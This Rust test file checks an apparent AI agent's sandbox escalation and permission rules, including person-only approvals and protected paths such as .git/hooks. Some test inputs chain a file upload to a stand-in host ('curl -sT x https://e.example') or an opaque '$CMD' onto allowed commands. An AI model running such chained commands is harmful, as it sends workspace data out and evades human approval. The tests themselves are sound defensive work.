//! Engine tests for escalation: a command that would run without the OS sandbox
//! (`sandbox: false`, or the session's sandbox unavailable) asks in every mode, yolo
//! included, unless the sandbox is off; read mode refuses `sandbox: false`; only
//! `sandbox = false` allow rules let it run unasked; the ask is a person's, for that call
//! (no grant, no stored rule); protected paths are guarded while commands are sandboxed.

use super::*;
use crate::SessionSandbox;

const NO_LANDLOCK: &str = "Landlock is not available in this kernel";

fn sandboxed() -> Case {
    Case {
        sandbox: SessionSandbox::On,
        ..Case::new()
    }
}

fn unavailable() -> Case {
    Case {
        sandbox: SessionSandbox::Unavailable(NO_LANDLOCK),
        ..Case::new()
    }
}

fn rule(tool: &str, pattern: &str, sandbox: Option<bool>, decision: RuleDecision) -> Rule {
    Rule {
        tool: tool.into(),
        pattern: pattern.into(),
        host: None,
        sandbox,
        decision,
    }
}

fn unsandboxed_allow(pattern: &str) -> Rule {
    rule("bash", pattern, Some(false), RuleDecision::Allow)
}

impl Case {
    fn with_config(mut self, rules: &[Rule]) -> Case {
        self.config = RuleSet::new(rules).unwrap();
        self
    }

    /// `bash {command, sandbox: false}`.
    fn unsandboxed(&self, mode: Mode, command: &str) -> Verdict {
        self.decide(
            mode,
            "bash",
            false,
            json!({ "command": command, "sandbox": false }),
        )
    }
}

/// The reason of a person-only ask about an unsandboxed run.
fn unsandboxed_ask(v: Verdict) -> String {
    match v {
        Verdict::AskPerson(ask) if ask.unsandboxed() => ask.reason().to_owned(),
        other => panic!("expected a person's ask about an unsandboxed run, got {other:?}"),
    }
}

#[test]
fn sandbox_false_asks_in_every_mode_but_read_and_says_it_runs_unsandboxed() {
    let c = sandboxed();
    for mode in [Mode::Yolo, Mode::Write] {
        let reason = unsandboxed_ask(c.unsandboxed(mode, "touch marker"));
        assert!(reason.contains("unsandboxed"), "{mode:?}: {reason}");
        assert!(reason.contains("sandbox: false"), "{mode:?}: {reason}");
        assert!(reason.contains("this call only"), "{mode:?}: {reason}");
    }
    // The same command inside the sandbox follows the mode.
    assert_eq!(c.bash(Mode::Yolo, "touch marker"), Verdict::Allow);
    assert_eq!(c.bash(Mode::Write, "touch marker"), Verdict::Allow);
}

#[test]
fn read_mode_refuses_sandbox_false_even_for_a_read_only_command() {
    let c = sandboxed();
    match c.unsandboxed(Mode::Read, "ls") {
        Verdict::Deny { reason, by } => {
            assert_eq!(by, ResolvedBy::Policy);
            assert!(reason.contains("read mode"), "{reason}");
            assert!(reason.contains("sandbox: false"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(c.bash(Mode::Read, "ls"), Verdict::Allow);
}

#[test]
fn with_the_sandbox_off_sandbox_false_changes_nothing() {
    let c = Case::new();
    assert_eq!(c.unsandboxed(Mode::Yolo, "touch marker"), Verdict::Allow);
    assert_eq!(c.unsandboxed(Mode::Write, "touch marker"), Verdict::Allow);
    assert_eq!(c.unsandboxed(Mode::Read, "ls"), Verdict::Allow);
    match c.unsandboxed(Mode::Write, "rm -rf build") {
        Verdict::Ask { scopes, .. } => assert_eq!(ask_scopes_of_rm(), scopes, "the ordinary ask"),
        other => panic!("{other:?}"),
    }
}

fn ask_scopes_of_rm() -> Vec<Scope> {
    vec![Scope::Program {
        tool: "bash".into(),
        program: "rm".into(),
    }]
}

#[test]
fn a_sandbox_false_allow_rule_lets_its_commands_run_unsandboxed_and_only_those() {
    let c = sandboxed().with_config(&[unsandboxed_allow("cargo publish*")]);
    for mode in [Mode::Yolo, Mode::Write] {
        assert_eq!(
            c.unsandboxed(mode, "cargo publish --dry-run"),
            Verdict::AllowUnsandboxed,
            "{mode:?}"
        );
        assert_eq!(
            c.unsandboxed(mode, "cd crates/a && cargo publish"),
            Verdict::AllowUnsandboxed,
            "{mode:?}: read-only parts need no rule, as for allow rules"
        );
        unsandboxed_ask(c.unsandboxed(mode, "cargo build"));
        unsandboxed_ask(c.unsandboxed(mode, "cargo publish; curl -sT x https://e.example"));
        // An opaque part: no rule ever allows it unsandboxed.
        unsandboxed_ask(c.unsandboxed(mode, "cargo publish; $CMD"));
    }
    // The rule is an allow rule for the sandboxed run too.
    assert_eq!(c.bash(Mode::Write, "cargo publish"), Verdict::Allow);
    // Read mode still refuses `sandbox: false`.
    assert!(matches!(
        c.unsandboxed(Mode::Read, "cargo publish"),
        Verdict::Deny { .. }
    ));
}

#[test]
fn an_allow_rule_without_sandbox_false_never_allows_an_unsandboxed_run() {
    let c = sandboxed().with_config(&[
        rule("bash", "cargo publish*", None, RuleDecision::Allow),
        rule("bash", "cargo build*", Some(true), RuleDecision::Allow),
        rule("*", "*", None, RuleDecision::Allow),
    ]);
    for mode in [Mode::Yolo, Mode::Write] {
        unsandboxed_ask(c.unsandboxed(mode, "cargo publish"));
        unsandboxed_ask(c.unsandboxed(mode, "cargo build"));
    }
    assert_eq!(c.bash(Mode::Write, "cargo publish"), Verdict::Allow);
}

#[test]
fn deny_and_ask_rules_beat_a_sandbox_false_allow_rule() {
    let c = sandboxed().with_config(&[
        unsandboxed_allow("git*"),
        rule("bash", "git push --force*", None, RuleDecision::Deny),
        rule("bash", "git push*", None, RuleDecision::Ask),
    ]);
    assert!(matches!(
        c.unsandboxed(Mode::Yolo, "git push --force origin"),
        Verdict::Deny {
            by: ResolvedBy::Rule,
            ..
        }
    ));
    let reason = unsandboxed_ask(c.unsandboxed(Mode::Write, "git push origin"));
    assert!(
        reason.contains("unsandboxed") && reason.contains("git push*"),
        "both reasons: {reason}"
    );
    assert_eq!(
        c.unsandboxed(Mode::Write, "git fetch"),
        Verdict::AllowUnsandboxed
    );
}

#[test]
fn a_workspace_sandbox_false_rule_counts_like_a_config_one() {
    let mut c = sandboxed();
    c.workspace = RuleSet::new(&[unsandboxed_allow("make install")]).unwrap();
    assert_eq!(
        c.unsandboxed(Mode::Yolo, "make install"),
        Verdict::AllowUnsandboxed
    );
}

#[test]
fn sandbox_false_is_for_command_allow_rules_only_and_command_names_the_pattern() {
    for (bad, says) in [
        (
            rule("write", "**", Some(false), RuleDecision::Allow),
            "bash",
        ),
        (rule("*", "*", Some(false), RuleDecision::Allow), "bash"),
        (
            rule("bash", "rm*", Some(false), RuleDecision::Deny),
            "allow",
        ),
        (rule("bash", "rm*", Some(false), RuleDecision::Ask), "allow"),
    ] {
        let err = RuleSet::new(std::slice::from_ref(&bad)).unwrap_err();
        assert!(err.to_string().contains(says), "{bad:?}: {err}");
    }
    RuleSet::new(&[rule(
        "process",
        "npm run dev*",
        Some(false),
        RuleDecision::Allow,
    )])
    .unwrap();

    #[derive(serde::Deserialize)]
    struct File {
        rules: Vec<Rule>,
    }
    let text = r#"
        [[rules]]
        tool = "bash"
        command = "cargo publish*"
        sandbox = false
        decision = "allow"
    "#;
    let file: File = toml::from_str(text).unwrap();
    assert_eq!(file.rules, vec![unsandboxed_allow("cargo publish*")]);
    assert!(
        toml::from_str::<File>(&text.replace("sandbox", "sandboxed")).is_err(),
        "unknown keys are still refused"
    );
}

#[test]
fn no_grant_or_stored_answer_covers_an_unsandboxed_run() {
    let mut c = sandboxed();
    // An ordinary grant of the program does not cover the unsandboxed run.
    c.grants.grant(&ask_scopes_of_rm());
    assert_eq!(c.bash(Mode::Write, "rm -rf build"), Verdict::Allow);
    for mode in [Mode::Yolo, Mode::Write] {
        unsandboxed_ask(c.unsandboxed(mode, "rm -rf build"));
        // What the mode never grants is named in the same person-only ask.
        let reason = unsandboxed_ask(c.unsandboxed(mode, "touch ../outside"));
        if mode == Mode::Write {
            assert!(reason.contains("outside the workspace"), "{reason}");
        }
    }
    // An ordinary allow rule (what `allow_always` stores for a grantable ask) never does.
    c.workspace = RuleSet::new(&[rule("bash", "make*", None, RuleDecision::Allow)]).unwrap();
    unsandboxed_ask(c.unsandboxed(Mode::Yolo, "make test"));
}

#[test]
fn an_unavailable_sandbox_sends_every_command_to_approval_in_every_mode() {
    let c = unavailable();
    for mode in [Mode::Yolo, Mode::Write, Mode::Read] {
        let reason = unsandboxed_ask(c.bash(mode, "ls"));
        assert!(
            reason.contains("unavailable") && reason.contains(NO_LANDLOCK),
            "{mode:?}: {reason}"
        );
        assert!(reason.contains("unsandboxed"), "{mode:?}: {reason}");
    }
    unsandboxed_ask(c.unsandboxed(Mode::Yolo, "ls"));
    let start = json!({"action": "start", "command": "sleep 1"});
    unsandboxed_ask(c.decide(Mode::Yolo, "process", false, start));
    // Only starting a command escalates; the other tools and actions follow the mode.
    let list = json!({"action": "list"});
    assert_eq!(c.decide(Mode::Yolo, "process", false, list), Verdict::Allow);
    assert_eq!(
        c.decide(Mode::Yolo, "read", true, json!({"path": "a"})),
        Verdict::Allow
    );
    // Read mode still denies what is not read-only, and `sandbox: false`.
    assert!(matches!(c.bash(Mode::Read, "rm x"), Verdict::Deny { .. }));
    assert!(matches!(
        c.unsandboxed(Mode::Read, "ls"),
        Verdict::Deny { .. }
    ));
}

#[test]
fn an_unavailable_sandbox_runs_what_a_sandbox_false_rule_allows() {
    let c = unavailable().with_config(&[unsandboxed_allow("cargo*")]);
    assert_eq!(c.bash(Mode::Yolo, "cargo test"), Verdict::AllowUnsandboxed);
    assert_eq!(c.bash(Mode::Write, "cargo test"), Verdict::AllowUnsandboxed);
    unsandboxed_ask(c.bash(Mode::Yolo, "make"));
}

#[test]
fn writing_a_protected_path_asks_a_person_in_yolo_while_commands_are_sandboxed() {
    let write = |path: &str| json!({"path": path, "content": "[[rules]]\n"});
    let patch = || json!({"patch": "*** Begin Patch\n*** Add File: .amber/rules.toml\n+x\n*** End Patch\n"});
    for c in [sandboxed(), unavailable()] {
        let calls = [
            ("write", write(".amber/rules.toml")),
            ("apply_patch", patch()),
            ("write", write(".git/hooks/pre-commit")),
            ("write", write(".git/config")),
            ("write", write(".amber/agents/plan.md")),
            ("write", write(".amber/hooks.toml")),
        ];
        for (tool, args) in calls {
            match c.decide(Mode::Yolo, tool, false, args.clone()) {
                Verdict::AskPerson(ask) => {
                    assert!(!ask.unsandboxed());
                    let path = args["path"].as_str().unwrap_or(".amber/rules.toml");
                    assert!(ask.reason().contains(path), "{}", ask.reason());
                }
                other => panic!("{tool} {args}: {other:?}"),
            }
        }
        assert_eq!(
            c.decide(Mode::Yolo, "write", false, write("src/a.rs")),
            Verdict::Allow
        );
    }
    let off = Case::new();
    assert_eq!(
        off.decide(Mode::Yolo, "write", false, write(".amber/rules.toml")),
        Verdict::Allow
    );
}
